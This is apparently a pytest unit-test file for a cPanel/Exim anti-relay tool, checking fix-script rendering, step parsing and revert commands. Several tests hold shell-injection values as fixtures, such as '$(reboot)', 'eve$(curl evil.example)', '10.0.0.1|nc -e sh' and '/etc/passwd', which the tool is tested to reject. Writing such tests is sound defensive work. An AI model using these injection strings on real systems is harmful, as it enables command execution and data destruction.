"""Fix scripts render from fixed text plus the validated probe values; step markers parse back."""

from __future__ import annotations

from dataclasses import replace

import pytest
from relayguard.domain.decide import assess, decide
from relayguard.domain.entry import script_of
from relayguard.domain.models import Generation, Mode, Plan, Policy, Step, StepName, StepResult
from relayguard.domain.operation import Operation
from relayguard.domain.probe import parse_probe
from relayguard.domain.proof import rcpt_reply
from relayguard.domain.script import (
    parse_steps,
    render_disable,
    render_finish,
    revert_commands,
)
from relayguard.errors import InvalidInput

from tests.unit.samples import LEGACY_EXPOSED, MODERN_EXPOSED, RELAY_REFUSED, hx, probe_text, step_text

FIX = Policy(mode=Mode.FIX)
EXIM = "/usr/local/cpanel/scripts/restartsrv_exim"


def plan_for(facts: dict[str, str], policy: Policy = FIX) -> Plan:
    finding = parse_probe(probe_text(facts))
    return decide(finding, assess(finding), policy)


# --- render_disable ----------------------------------------------------------------------------
# A renderer returns an Operation: plain data (the operation's name and its validated arguments); the
# script it runs is the operation's fixed body (domain/entry.script_of), the same for every server.

def _disable(plan: Plan, record: str = "") -> Operation:
    op = render_disable(plan, record=record)
    assert op is not None
    return op


def test_modern_disable_sets_the_tweak_and_reports_the_gate_file() -> None:
    op = _disable(plan_for(MODERN_EXPOSED))
    assert op.args == (("set_tweak", "1"),)
    text = script_of(op)
    assert ('if [ -n "$RG_set_tweak" ]; then\n'
            "  run set-tweak-popbeforesmtp-0 /usr/local/cpanel/bin/whmapi1 --output=json set_tweaksetting "
            "key=popbeforesmtp value=0\n  flag file.popbeforesmtp /etc/popbeforesmtp\nfi\n") in text
    assert text.endswith("kv scan.end 1\n")
    assert "restartsrv_exim" not in text


def test_legacy_disable_falls_back_to_the_skip_key_and_a_tailwatchd_restart() -> None:
    op = _disable(plan_for(LEGACY_EXPOSED))
    assert op.args == (("disable_antirelayd", "1"),)
    assert (
        "  if [ -x /usr/local/cpanel/bin/tailwatchd ] && run disable-antirelayd /usr/local/cpanel/bin/tailwatchd "
        "--disable=Cpanel::TailWatch::Antirelayd; then :; else\n"
        "    run set-skipantirelayd set_skipantirelayd\n"
        "    run restart-tailwatchd /usr/local/cpanel/scripts/restartsrv_tailwatchd\n"
        "  fi\n"
    ) in script_of(op)


def test_the_record_goes_first_as_an_argument() -> None:
    op = _disable(plan_for(MODERN_EXPOSED), record='{"schema":"x"}')
    assert op.args[0] == ("record", '{"schema":"x"}')
    text = script_of(op)
    assert text.index("run write-revert-record") < text.index("run set-tweak")


def test_an_empty_plan_renders_no_disable_operation() -> None:
    assert render_disable(Plan(generation=Generation.MODERN, exposed=False)) is None


def test_a_plan_without_a_disable_step_renders_no_disable_operation() -> None:
    plan = Plan(Generation.LEGACY, True, steps=(Step(StepName.RESTART_EXIM, (EXIM,)),), verify_ip="192.0.2.1",
                verify_sender="relayguard-probe@example.org")
    assert render_disable(plan) is None


def test_a_step_whose_command_is_not_the_fixed_one_is_refused() -> None:
    plan = Plan(Generation.MODERN, True, steps=(Step(StepName.SET_TWEAK, ("/bin/sh", "-c", "id")),))
    with pytest.raises(InvalidInput, match="not the fixed command"):
        render_disable(plan)


# --- render_finish -----------------------------------------------------------------------------

def test_finish_restarts_exim_once_with_one_hard_retry_then_verifies() -> None:
    plan = plan_for(MODERN_EXPOSED)
    op = render_finish(plan)
    assert op.args == (("update_exim_rejects", "1"), ("ip", "203.0.113.7"),
                       ("sender", "relayguard-probe@example.com"))
    text = script_of(op)
    assert text.startswith("set -- update_exim_rejects=1 ip=203.0.113.7 sender=relayguard-probe@example.com\n")
    assert "  run update-exim-rejects /usr/local/cpanel/scripts/update_exim_rejects\n" in text
    assert f"if run restart-exim {EXIM}; then :; else run restart-exim-hard {EXIM} --hard; fi\n" in text
    assert f"run exim-status {EXIM} --status\n" in text
    assert "run exim-bv /usr/sbin/exim -bV\n" in text
    assert ("printf 'EHLO relayguard.invalid\\r\\nMAIL FROM:<%s>\\r\\nRCPT TO:<%s>\\r\\nQUIT\\r\\n' "
            '"$RG_sender" relayguard-probe@example.net '
            '| run relay-probe /usr/sbin/exim -bh "$RG_ip"\n') in text
    assert text.count("run restart-exim ") == 1
    assert text.rstrip().endswith("kv scan.end 1")


def test_finish_normalises_an_ipv6_probe_address() -> None:
    plan = Plan(Generation.MODERN, True, verify_ip="2001:DB8::7", verify_sender="relayguard-probe@example.com")
    assert render_finish(plan).value("ip") == "2001:db8::7"


def test_finish_with_the_tracker_disabled_disables_it_then_truncates_non_empty_lists() -> None:
    op = render_finish(plan_for(MODERN_EXPOSED, Policy(mode=Mode.FIX, disable_tracker=True)))
    assert op.value("disable_tracker") == op.value("truncate_relayhosts") == "1"
    assert op.value("truncate_relayhostsusers") == "1"
    text = script_of(op)
    tracker = text.index("run disable-tracker /usr/local/cpanel/libexec/tailwatchd "
                         "--disable=Cpanel::TailWatch::RecentAuthedMailIpTracker\n")
    truncate = text.index("if [ -s /etc/relayhosts ]; then run truncate-relayhosts truncate_file /etc/relayhosts; fi\n")
    assert tracker < truncate < text.index("run update-exim-rejects")


def test_modern_finish_by_default_neither_touches_tailwatchd_nor_truncates() -> None:
    op = render_finish(plan_for(MODERN_EXPOSED))
    keys = {key for key, _ in op.args}
    assert not keys & {"disable_tracker", "truncate_relayhosts", "truncate_relayhostsusers"}
    # ... while it still rebuilds the reject lists and probes (the negatives above are not vacuous)
    assert {"update_exim_rejects", "ip", "sender"} <= keys


def test_rendering_is_pure() -> None:
    assert render_finish(plan_for(LEGACY_EXPOSED)) == render_finish(plan_for(LEGACY_EXPOSED))
    assert render_disable(plan_for(LEGACY_EXPOSED)) == render_disable(plan_for(LEGACY_EXPOSED))


@pytest.mark.parametrize("ip", ["1.2.3.4;touch /tmp/x", "$(reboot)", ""])
def test_finish_refuses_a_probe_address_that_is_not_an_ip(ip: str) -> None:
    plan = replace(plan_for(MODERN_EXPOSED), verify_ip=ip)
    with pytest.raises(InvalidInput, match="not an IP address"):
        render_finish(plan)


@pytest.mark.parametrize("sender", ["a@example.com;reboot", "$(id)@example.com", "a b@example.com", "a@b'c.com", ""])
def test_finish_refuses_a_sender_with_shell_metacharacters(sender: str) -> None:
    plan = replace(plan_for(MODERN_EXPOSED), verify_sender=sender)
    with pytest.raises(InvalidInput, match="not a plain address"):
        render_finish(plan)


def test_finish_refuses_a_sender_with_a_trailing_newline() -> None:
    plan = replace(plan_for(MODERN_EXPOSED), verify_sender="relayguard-probe@example.com\n")
    with pytest.raises(InvalidInput):
        render_finish(plan)


@pytest.mark.parametrize("path", ["/etc/passwd", "/etc/relayhosts;reboot", "/etc/recent_authed_mail_ips"])
def test_finish_refuses_to_truncate_anything_but_the_relayhosts_files(path: str) -> None:
    plan = replace(plan_for(LEGACY_EXPOSED), truncate=(path,))
    with pytest.raises(InvalidInput, match="refusing to truncate"):
        render_finish(plan)


def test_no_server_data_but_the_validated_ip_and_sender_reaches_the_scripts() -> None:
    # GIVEN a server whose lists and names carry hostile text next to one real address
    hostile = {
        **MODERN_EXPOSED,
        "id.hostname": "web1;reboot",
        "localdomain": "pwn$(id).example.com",
        "list.recent_authed_mail_ips.hex": hx("1.2.3.4;touch /tmp/x\n$(reboot)\n`id`\n203.0.113.9\n"),
        "list.recent_authed_mail_ips_users.hex": hx("203.0.113.9: eve$(curl evil.example)\n"),
        "exc.alwaysrelay.kind": "file", "exc.alwaysrelay.hex": hx("10.0.0.1|nc -e sh\n"),
    }
    finding = parse_probe(probe_text(hostile))
    plan = decide(finding, assess(finding), Policy(mode=Mode.FIX, disable_tracker=True))
    # WHEN both fix operations render
    ops = (_disable(plan), render_finish(plan))
    text = "\n".join(line for op in ops for line in op.lines())
    # THEN only the validated address and the fallback sender appear among the arguments (the bodies are
    # fixed text, the same for every server)
    assert (plan.verify_ip, plan.verify_sender) == ("203.0.113.9", "relayguard-probe@localhost.localdomain")
    assert "ip=203.0.113.9" in text
    for fragment in ("touch /tmp/x", "$(reboot)", "`id`", "reboot", "curl", "nc -e", "pwn", "eve", "web1"):
        assert fragment not in text


# --- parse_steps / rcpt_reply ------------------------------------------------------------------

def test_parse_steps_reads_rc_duration_and_output_in_run_order() -> None:
    # GIVEN marker lines from two steps, with uptime stamps and hex output
    output = ("scan.schema=1\n"
              + step_text("restart-exim", 1, err="The “exim” service is down.\n", start="812.40", end="815.90")
              + step_text("restart-exim-hard", 0, out="done\n", start="815.90", end="818.15")
              + "scan.end=1\n")
    # WHEN parsed
    steps = parse_steps(output)
    # THEN each step keeps its order, exit status, duration and text
    assert [(s.name, s.rc, s.stdout, s.stderr) for s in steps] == [
        ("restart-exim", 1, "", "The “exim” service is down.\n"),
        ("restart-exim-hard", 0, "done\n", ""),
    ]
    assert [s.duration for s in steps] == pytest.approx([3.5, 2.25])


def test_parse_steps_tolerates_missing_stamps_and_a_garbled_rc() -> None:
    steps = parse_steps("step.exim-bv.rc=x\nstep.exim-bv.start=oops\n")
    assert steps == [StepResult("exim-bv", None, 0.0)]


def test_rcpt_reply_joins_a_multi_line_550() -> None:
    code, text = rcpt_reply(RELAY_REFUSED)
    assert code == 550
    assert text == ("550 Please turn on SMTP Authentication in your mail client.  relayguard.invalid "
                    "[203.0.113.7] is not permitted to relay through this server without authentication.")


def test_rcpt_reply_is_none_when_the_dialogue_stopped_early() -> None:
    assert rcpt_reply("220 web1 ESMTP\n250 web1 Hello\n") == (None, "220 web1 ESMTP | 250 web1 Hello")


def test_rcpt_reply_reports_an_accepted_rcpt() -> None:
    assert rcpt_reply("220 web1 ESMTP\n250 web1 Hello\n250 OK\n250 Accepted\n221 bye\n") == (250, "250 Accepted")


# --- revert_commands ---------------------------------------------------------------------------

def test_modern_revert_reopens_the_setting_refreshes_and_restarts() -> None:
    assert revert_commands(Generation.MODERN, False, ("203.0.113.7",), ()) == (
        "/usr/local/cpanel/bin/whmapi1 --output=json set_tweaksetting key=popbeforesmtp value=1",
        "/usr/local/cpanel/scripts/update_exim_rejects",
        EXIM,
    )


def test_modern_revert_re_enables_a_tracker_the_fix_disabled() -> None:
    cmds = revert_commands(Generation.MODERN, True, (), ())
    assert cmds[1] == "/usr/local/cpanel/libexec/tailwatchd --enable=Cpanel::TailWatch::RecentAuthedMailIpTracker"
    assert len(cmds) == 4


def test_legacy_revert_restores_the_lists_with_quoted_values() -> None:
    cmds = revert_commands(Generation.LEGACY, False, ("198.51.100.9", "2001:DB8::7"),
                           ("198.51.100.9 carol", "10.0.0.5 o'brien"))
    assert cmds == (
        "/usr/local/cpanel/bin/tailwatchd --enable=Cpanel::TailWatch::Antirelayd",
        "printf '%s\\n' 198.51.100.9 2001:db8::7 > /etc/relayhosts",
        "printf '%s\\n' '198.51.100.9 carol' '10.0.0.5 o'\"'\"'brien' > /etc/relayhostsusers",
        "/usr/local/cpanel/scripts/update_exim_rejects",
        EXIM,
    )


def test_legacy_revert_refuses_a_non_address() -> None:
    with pytest.raises(ValueError, match="does not appear to be"):
        revert_commands(Generation.LEGACY, False, ("1.2.3.4;reboot",), ())
